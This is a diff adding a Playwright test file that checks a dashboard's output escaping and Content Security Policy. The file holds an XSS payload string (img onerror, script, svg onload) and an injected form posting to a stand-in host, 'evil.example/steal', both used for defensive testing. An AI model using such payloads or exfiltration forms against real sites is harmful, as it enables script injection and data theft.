@@ -1,0 +1,177 @@
+import type { Page } from "playwright-core";
+import * as assert from "uvu/assert";
+import type { Row } from "../../../demo/state/table.ts";
+import { eventually, pause } from "../../as/visitor.ts";
+import { walks } from "../../as/walks.ts";
+
+const test = walks("policy", { backend: { servers: 3 } });
+
+const hostile = '<img src=x onerror="window.ran=1"><script>window.ran=2</script>"><svg onload=window.ran=3>';
+const ran = (page: Page) => page.evaluate("window.ran");
+
+/** Notes what the policy blocks, from the first moment on. */
+const watchViolations = (page: Page) =>
+  page.addInitScript(() => {
+    const blocked: string[] = [];
+    Object.assign(window, { blocked });
+    addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
+  });
+const blocked = (page: Page): Promise<string[]> => page.evaluate("[...window.blocked]");
+
+test("Hostile markup in every name is shown as text, on every page and in every dialog", async (visitor, stage) => {
+  await stage.control({ op: "setting", site_name: hostile, oauth2_providers: [hostile] });
+  const { world } = stage.backend;
+  for (const server of world.servers.all()) {
+    await stage.control({ op: "server", id: server.id, name: hostile, note: hostile, public_note: hostile });
+    for (const [key, value] of Object.entries(server.host)) {
+      if (typeof value === "string") Object.assign(server.host, { [key]: hostile });
+    }
+  }
+  for (const row of world.table<Row>("nat").all()) {
+    Object.assign(row, { name: hostile, host: hostile, domain: hostile });
+  }
+  await watchViolations(visitor.page);
+  await visitor.open("login");
+  await visitor.sees("heading", hostile);
+  await visitor.visits("");
+  await pause(500);
+  await visitor.open("nat?edit=1");
+  assert.is(await visitor.dialog().find("heading").innerText(), `Edit ${hostile}`);
+  await visitor.page.keyboard.press("Escape");
+  await visitor.find("button", `Delete ${hostile}`).first().click();
+  assert.is(await visitor.dialog("Confirm Deletion?").find("listitem").innerText(), hostile);
+  await visitor.page.keyboard.press("Escape");
+  await visitor.find("button", `Edit ${hostile}`).first().click();
+  await visitor.dialog().find("combobox", "Server").click();
+  await visitor.page.getByRole("option").first().waitFor();
+  assert.is(await ran(visitor.page), undefined);
+  assert.is(await visitor.page.locator('img[src="x"]').count(), 0);
+  assert.equal(await blocked(visitor.page), [], "nothing even tried");
+});
+
+test(
+  "Markup that found its way into the page would be stopped by the policy",
+  async (visitor) => {
+    await watchViolations(visitor.page);
+    await visitor.visits("nat");
+    await visitor.page.evaluate((markup) => {
+      document.body.insertAdjacentHTML("beforeend", markup);
+      const inline = document.createElement("script");
+      inline.textContent = "window.ran = 4";
+      document.body.append(inline);
+      const link = document.createElement("a");
+      link.href = "javascript:window.ran=5";
+      document.body.append(link);
+      link.click();
+      const data = document.createElement("script");
+      data.src = "data:text/javascript,window.ran=6";
+      document.body.append(data);
+      const plugin = document.createElement("object");
+      plugin.data = "/dashboard/licences.txt";
+      document.body.append(plugin);
+      const base = document.createElement("base");
+      base.href = "https://evil.example/";
+      document.head.append(base);
+      const form = document.createElement("form");
+      form.action = "https://evil.example/steal";
+      document.body.append(form);
+      form.submit();
+    }, hostile);
+    const wanted = ["script-src-attr", "script-src-elem", "object-src", "base-uri", "form-action"];
+    await eventually(async () => {
+      const seen = await blocked(visitor.page);
+      for (const one of wanted) assert.ok(seen.includes(one), `${one} is not among ${seen.join(", ")}`);
+    });
+    assert.is(await ran(visitor.page), undefined);
+    assert.ok((await visitor.page.evaluate(() => document.baseURI)).startsWith(visitor.url));
+  },
+  { expects: [/Content Security Policy/, /status of 404/] },
+);
+
+test(
+  "Plain http scripts, eval and foreign workers are blocked even for custom code",
+  async (visitor, stage) => {
+    const code = `<script src="http://127.0.0.1:1/plain.js"></script>
+<script>try { eval("window.ran = 1") } catch { window.evalBlocked = true }</script>
+<script>try { new Worker(URL.createObjectURL(new Blob(["1"]))).onerror = () => { window.workerBlocked = true } } catch { window.workerBlocked = true }</script>
+<p id="custom" onclick="window.ran=2">custom</p>`;
+    await stage.control({ op: "setting", custom_code_dashboard: code });
+    await watchViolations(visitor.page);
+    await visitor.open("login");
+    await visitor.page.locator("#custom").click();
+    await eventually(async () =>
+      assert.is(await visitor.page.evaluate("window.evalBlocked && window.workerBlocked"), true),
+    );
+    assert.is(await ran(visitor.page), undefined);
+  },
+  { expects: [/Content Security Policy/, /custom code/] },
+);
+
+test(
+  "Custom code runs after the page stands: scripts in order, https ones too, styles, meta and markup",
+  async (visitor, stage) => {
+    await visitor.context.route("https://cdn.example/**", (route) =>
+      route.fulfill({
+        contentType: "text/javascript",
+        body: "window.order = [...(window.order ?? []), 'external']",
+      }),
+    );
+    const code = `<meta name="x-operator" content="here"><style>body { --custom: 7 }</style>
+<script>window.order = [document.querySelector("h1") ? "inline" : "too early"]</script>
+<script src="https://cdn.example/widget.js"></script>
+<script>throw new Error("a broken snippet")</script>
+<div id="badge">badge <script>window.order.push("nested")</script></div>
+<script>window.order.push("last")</script>`;
+    await stage.control({ op: "setting", custom_code_dashboard: code });
+    await visitor.open("login");
+    await eventually(async () =>
+      assert.equal(await visitor.page.evaluate("window.order"), ["inline", "external", "nested", "last"]),
+    );
+    await visitor.reads("badge");
+    assert.is(await visitor.page.locator("meta[name=x-operator]").getAttribute("content"), "here");
+    assert.is(
+      await visitor.page.evaluate(() => getComputedStyle(document.body).getPropertyValue("--custom").trim()),
+      "7",
+    );
+    await visitor.signsIn();
+    await visitor.isHome();
+    await pause(400);
+    assert.equal(
+      await visitor.page.evaluate("window.order"),
+      ["inline", "external", "nested", "last"],
+      "signing in runs nothing twice",
+    );
+  },
+  { expects: [/asked a stranger: https:\/\/cdn\.example/, /custom code/] },
+);
+
+test("?safe=1 leaves custom code out, says so, and lasts as long as the tab", async (visitor, stage) => {
+  await stage.control({
+    op: "setting",
+    custom_code_dashboard: '<script>window.ran = 1; document.body.hidden = true</script><i id="custom"></i>',
+  });
+  await visitor.isSignedIn();
+  await visitor.open("nat?safe=1");
+  await visitor.reads("Safe mode: custom code is left out in this tab.");
+  await pause(300);
+  assert.is(await ran(visitor.page), undefined);
+  await visitor.open("nat");
+  await visitor.reads("Safe mode: custom code is left out in this tab.");
+  await pause(300);
+  assert.is(await ran(visitor.page), undefined);
+  assert.is(await visitor.page.locator("#custom").count(), 0);
+  await visitor.open("nat?safe=0");
+  await eventually(async () => assert.is(await ran(visitor.page), 1));
+});
+
+test("The page itself breaks no rule of its policy", async (visitor) => {
+  await watchViolations(visitor.page);
+  for (const path of ["login", "", "nat", "nat?new=", "nat?edit=1"]) {
+    await (path === "login" ? visitor.open(path) : visitor.visits(path));
+    await visitor.sees("heading");
+    await pause(400);
+    assert.equal(await blocked(visitor.page), [], `at /dashboard/${path}`);
+  }
+});
+
+test.run();
